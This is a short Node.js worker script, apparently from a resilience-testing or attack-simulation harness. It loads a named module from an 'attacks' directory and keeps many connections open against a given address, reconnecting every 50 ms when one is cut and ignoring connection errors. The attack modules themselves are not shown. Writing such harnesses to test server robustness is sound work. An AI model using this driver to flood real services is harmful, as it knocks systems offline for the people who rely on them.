// An attack, a process of its own: as many connections as it is told, each opened again when it was cut.
const [attack, address, connections] = process.argv.slice(2);
const { connectAndAttack } = await import(new URL(`../attacks/${attack}.mjs`, import.meta.url).href);
const RECONNECT_MS = 50;

process.once("disconnect", () => process.exit());
process.on("uncaughtException", (error) => {
  // What a cut connection says; an attacker does not mind.
  if (!("code" in error)) throw error;
});
for (let index = 0; index < Number(connections); index += 1) void keepAttacking();

async function keepAttacking() {
  for (;;) {
    await connectAndAttack(address).catch(() => {});
    process.send?.("cut");
    await new Promise((resolve) => setTimeout(resolve, RECONNECT_MS));
  }
}
